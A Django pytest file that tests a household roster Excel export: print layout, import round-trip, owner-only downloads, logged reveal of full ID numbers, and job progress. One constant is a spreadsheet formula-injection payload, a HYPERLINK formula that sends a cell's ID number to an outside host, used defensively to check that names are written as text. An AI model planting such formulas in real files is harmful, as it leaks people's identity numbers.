"""The household roster export: a job with progress on a real worker, its file laid out for printing in the import
template's columns, downloadable by its owner only, full ID numbers only by the logged button."""

import io
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse, reverse_lazy
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from households.id_numbers import id_number_mask
from households.importing.columns import COLUMNS
from households.models import Household, IdNumberReveal, ImportStatus, Member
from households.services.imports import import_job_check, import_job_confirm, import_job_create, import_job_write
from organisation.export_services import export_job_create, export_job_run
from organisation.models import ExportJob, ExportStatus
from organisation.roles import Role
from tests.factories.households import HouseholdFactory, MemberFactory
from tests.reporting.test_report_jobs import celery_app_broker_down  # noqa: F401  (a fixture)

HEADER_ROW = 3
ROSTER = "households.roster"
ASK = reverse_lazy("organisation:export_ask", args=[ROSTER])
FORMULA = '=HYPERLINK("http://x/?"&I2,"y")'


def shown_width(value) -> int:
    """How many character widths a value takes in a cell (a Chinese character takes two)."""
    return sum(2 if ord(char) > 0x2E80 else 1 for char in str(value or ""))


def workbook_of(job):
    job.refresh_from_db()
    with job.file.open("rb") as stream:
        return load_workbook(io.BytesIO(stream.read()))


def exported(user, **filters):
    job = export_job_create(user=user, kind=ROSTER, filters=filters)
    return export_job_run(job_id=job.pk)


@pytest.mark.django_db
def test_a_member_named_like_a_formula_is_written_as_text_never_a_formula(make_user, village):
    # given a member whose name is a formula that would send the sheet's ID numbers away
    MemberFactory(household__village=village, name=FORMULA)
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    # when the roster is exported
    job = exported(staff)
    # then no cell of the file is a formula, and the name is there as text
    sheet = workbook_of(job).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    names = [cell for cell in cells if cell.value == FORMULA]
    assert [(cell.data_type, cell.column) for cell in names] == [("s", 1 + [c.key for c in COLUMNS].index("name"))]


@pytest.mark.django_db
def test_the_roster_is_laid_out_for_printing(make_user, village):
    # given a household
    MemberFactory(household__village=village)
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    # when it is exported
    sheet = workbook_of(exported(staff)).active
    # then a title, the unit and date, a bold frozen header repeated on every page, widths, A4 landscape fit to width
    assert sheet["A1"].value and village.town.name in sheet["A2"].value
    header = [cell.value for cell in sheet[HEADER_ROW]]
    assert header == [column.header for column in COLUMNS]
    assert all(cell.font.b for cell in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (
        sheet.page_setup.fitToWidth,
        sheet.page_setup.fitToHeight,
        sheet.sheet_properties.pageSetUpPr.fitToPage,
    ) == (
        1,
        0,
        True,
    )
    for index, column in enumerate(COLUMNS, 1):
        letter = get_column_letter(index)
        longest = max(
            shown_width(row[0].value) for row in sheet.iter_rows(min_row=HEADER_ROW + 1, min_col=index, max_col=index)
        )
        assert sheet.column_dimensions[letter].width >= longest, column.header


@pytest.mark.django_db
def test_an_export_then_import_of_the_file_finds_no_error_and_changes_nothing(make_user, village):
    # given a household of three, other causes and a bank account
    household = HouseholdFactory(village=village, other_causes=["no_funds", "no_skills"], phone="13805390000")
    MemberFactory(household=household, name="张三")
    MemberFactory(household=household, relation="spouse", female=True)
    MemberFactory(household=household, relation="son", migrant_worker=True)
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    before = list(Member.objects.order_by("pk").values()), list(Household.objects.values())
    # when the town exports it with full ID numbers and imports the file again
    job = export_job_create(user=staff, kind=ROSTER, filters={}, full_ids=True)
    job = export_job_run(job_id=job.pk)
    with job.file.open("rb") as stream:
        upload = SimpleUploadedFile("roster.xlsx", stream.read())
    imported = import_job_check(job_id=import_job_create(user=staff, town=village.town, upload=upload).pk)
    # then the check finds no problem, and writing it changes nothing
    assert (imported.status, imported.error_count) == (ImportStatus.CHECKED, 0), list(
        imported.row_errors.values_list("row", "column", "message")
    )
    import_job_confirm(user=staff, job=imported)
    assert import_job_write(job_id=imported.pk).status == ImportStatus.IMPORTED
    after = list(Member.objects.order_by("pk").values()), list(Household.objects.values())
    strip = {"updated_at"}
    assert [[{k: v for k, v in row.items() if k not in strip} for row in rows] for rows in after] == [
        [{k: v for k, v in row.items() if k not in strip} for row in rows] for rows in before
    ]


@pytest.mark.django_db
def test_full_ids_only_by_the_button_for_the_roles_allowed_and_logged(client, make_user, village):
    # given a member, a town's staff (who may see full ID numbers) and a village clerk (who may not)
    member = MemberFactory(household__village=village)
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    clerk = make_user(Role.VILLAGE_CLERK, village=village)
    id_column = 1 + [column.key for column in COLUMNS].index("id_number")

    def ids(user, **data):
        client.force_login(user)
        response = client.post(f"{ASK}?full_ids=1", data)
        if response.status_code != 302:
            return response.status_code
        job = export_job_run(job_id=ExportJob.objects.filter(owner=user).latest("pk").pk)
        sheet = workbook_of(job).active
        return [row[id_column - 1] for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]

    # when the URL parameter asks for full ID numbers: masked, nothing logged
    assert ids(staff) == [id_number_mask(member.id_number)]
    assert not IdNumberReveal.objects.exists()
    # when the staff presses the button: the full numbers, logged
    assert ids(staff, full_ids="1") == [member.id_number]
    assert IdNumberReveal.objects.filter(user=staff, member=None).count() == 1
    # when the clerk presses it: refused, and the list page shows the clerk no such button
    assert ids(clerk, full_ids="1") == 403
    assert 'data-testid="export-full-ids"' not in client.get(reverse("households:household_list")).content.decode()
    client.force_login(staff)
    assert 'data-testid="export-full-ids"' in client.get(reverse("households:household_list")).content.decode()


@pytest.mark.django_db
def test_the_export_keeps_the_lists_filters(make_user, village):
    # given two households, one with a name searched for
    MemberFactory(household__village=village, name="李四")
    MemberFactory(household__village=village, name="王五")
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    # when the list filtered by the search is exported
    sheet = workbook_of(exported(staff, q="李四", page="2")).active
    # then only the household found is in it
    name_column = [column.key for column in COLUMNS].index("name")
    assert [row[name_column] for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)] == ["李四"]


@pytest.mark.django_db
def test_the_download_is_its_owners_only(client, make_user, village, other_village):
    # given a finished export of a town's staff
    MemberFactory(household__village=village)
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    job = exported(staff)
    urls = [reverse(name, args=[job.pk]) for name in ("organisation:export_job", "organisation:export_job_download")]
    # when another town's staff asks for its page or its file: 404
    client.force_login(make_user(Role.TOWN_STAFF, town=other_village.town))
    assert [client.get(url).status_code for url in urls] == [404, 404]
    # when its owner does: the page offers the file, not cached
    client.force_login(staff)
    assert 'data-testid="export-download"' in client.get(urls[0]).content.decode()
    response = client.get(urls[1])
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    assert b"".join(response.streaming_content)[:2] == b"PK"


@pytest.mark.django_db
def test_with_the_broker_down_the_export_waits_for_the_job_service_and_the_page_says_so(
    client,
    make_user,
    village,
    celery_app_broker_down,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    # given a town's staff, and a broker nothing listens on
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    client.force_login(staff)
    # when it asks for an export
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(ASK)
    # then it lands on the job's page, which says the export waits for the job service: no error page
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response.url == reverse("organisation:export_job", args=[job.pk])
    assert job.status == ExportStatus.WAITING and job.failure
    page = client.get(response.url)
    assert page.status_code == 200 and job.failure in page.content.decode()


@pytest.mark.celery_worker
@pytest.mark.django_db(transaction=True)
def test_a_worker_writes_the_export_asked_for_in_the_browser_with_progress(
    client, make_user, village, private_queue, worker, settings
):
    # given a town's staff, 30 members, progress told every 10 rows, and exports sent to this test's queue
    settings.EXPORT_QUEUE = private_queue
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    MemberFactory.create_batch(30, household__village=village)
    client.force_login(staff)
    with worker():
        # when it asks for the export
        response = client.post(ASK)
        job = ExportJob.objects.get()
        page = client.get(response.url).content.decode()
        deadline = time.monotonic() + 60
        while job.status != ExportStatus.DONE:
            assert time.monotonic() < deadline, f"the worker did not write the export within a minute: {job.status}"
            time.sleep(0.2)
            job.refresh_from_db()
    # then the page showed the progress bar, the job is done with its rows counted, and the bar reloads the page
    assert 'data-testid="export-progress"' in page or job.status == ExportStatus.DONE
    assert (job.rows_total, job.rows_done, job.progress, len(job.sha256)) == (30, 30, 100, 64)
    assert client.get(reverse("organisation:export_job_progress", args=[job.pk]))["HX-Refresh"] == "true"
    assert client.get(reverse("organisation:export_job_download", args=[job.pk])).status_code == 200


@pytest.mark.django_db
def test_progress_is_written_while_the_rows_are(make_user, village, monkeypatch):
    # given 25 members and progress told every 10 rows
    from organisation import export_services

    MemberFactory.create_batch(25, household__village=village)
    staff = make_user(Role.TOWN_STAFF, town=village.town)
    seen = []
    original = export_services.sheet_write

    def write(*args, on_progress, **kwargs):
        def progress(done):
            on_progress(done)
            seen.append(ExportJob.objects.values_list("rows_done", "rows_total").get())

        return original(*args, on_progress=progress, **{**kwargs, "every": 10})

    monkeypatch.setattr(export_services, "sheet_write", write)
    # when the export runs
    job = exported(staff)
    # then the job said 10 then 20 of 25 rows while it was written, and 25 of 25 when done
    assert seen == [(10, 25), (20, 25)]
    assert (job.status, job.rows_done, job.rows_total) == (ExportStatus.DONE, 25, 25)
